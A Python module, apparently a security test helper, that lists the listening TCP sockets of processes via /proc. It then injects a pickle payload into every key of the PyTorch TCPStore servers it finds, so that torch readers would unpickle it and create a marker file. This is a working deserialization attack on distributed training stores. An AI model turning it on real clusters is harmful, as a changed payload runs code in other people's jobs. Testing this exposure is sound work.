"""What processes listen on, and an attacker who writes pickles into every store behind it."""

import base64
import ipaddress
import os
import pickle
import struct
import time
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import timedelta
from multiprocessing import get_context
from pathlib import Path

import torch.distributed as dist

LISTEN = "0A"  # linux/tcp_states.h
POISON_S = 5.0


@dataclass(frozen=True)
class Listener:
    """A TCP socket that a process listens on."""

    pid: int
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def listeners(pids: Iterable[int]) -> list[Listener]:
    """The listening sockets of these processes and of all that they have started."""
    found: list[Listener] = []
    for pid in _with_descendants(pids):
        held = _held_sockets(pid)
        for name in ("tcp", "tcp6"):
            for line in Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]:
                _, local, _, state, *_, inode = line.split()[:10]
                if state == LISTEN and inode in held:
                    address, _, port = local.partition(":")
                    found.append(Listener(pid, _address(address), int(port, 16)))
    return found


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return open, (str(self.file), "w")


def poison(found: Iterable[Listener], file: Path) -> list[tuple[str, int]]:
    """Write a pickle that creates `file` under every key of the stores that listen there; returns their addresses.

    As torch's elastic agent would read it, and as torch's collectives of objects would.
    """
    context = get_context("fork")
    targets = sorted({(each.address, each.port) for each in found})
    # A client waits for ever where something else than a store listens.
    attackers = [context.Process(target=_poison, args=(*target, file)) for target in targets]
    for attacker in attackers:
        attacker.start()
    deadline = time.monotonic() + POISON_S
    for attacker in attackers:
        attacker.join(max(0.0, deadline - time.monotonic()))
        attacker.kill()
        attacker.join()
    return [target for target, attacker in zip(targets, attackers, strict=True) if attacker.exitcode == 0]


def _poison(address: str, port: int, file: Path) -> None:
    store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
    raw = pickle.dumps(Payload(file), protocol=0)  # ASCII, since a store takes text
    for key in [*store.list_keys(), "torch.rendezvous.xorl", "torch.rendezvous.none"]:
        store.set(key, base64.b64encode(raw).decode() if "rendezvous" in key else raw.decode("ascii"))
    os._exit(0)


def _with_descendants(pids: Iterable[int]) -> list[int]:
    found = list(pids)
    for pid in found:
        for children in Path(f"/proc/{pid}/task").glob("*/children"):
            found += map(int, children.read_text().split())
    return found


def _held_sockets(pid: int) -> set[str]:
    """The inodes of the sockets that a process has open."""
    held: set[str] = set()
    for descriptor in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = str(descriptor.readlink())
        except FileNotFoundError:  # closed meanwhile
            continue
        if target.startswith("socket:["):
            held.add(target.removeprefix("socket:[").removesuffix("]"))
    return held


def _address(text: str) -> str:
    """An address of /proc/net/tcp: words in the byte order of the machine."""
    words = [struct.pack("=I", int(text[start : start + 8], 16)) for start in range(0, len(text), 8)]
    found = ipaddress.ip_address(b"".join(words))
    return str(getattr(found, "ipv4_mapped", None) or found)
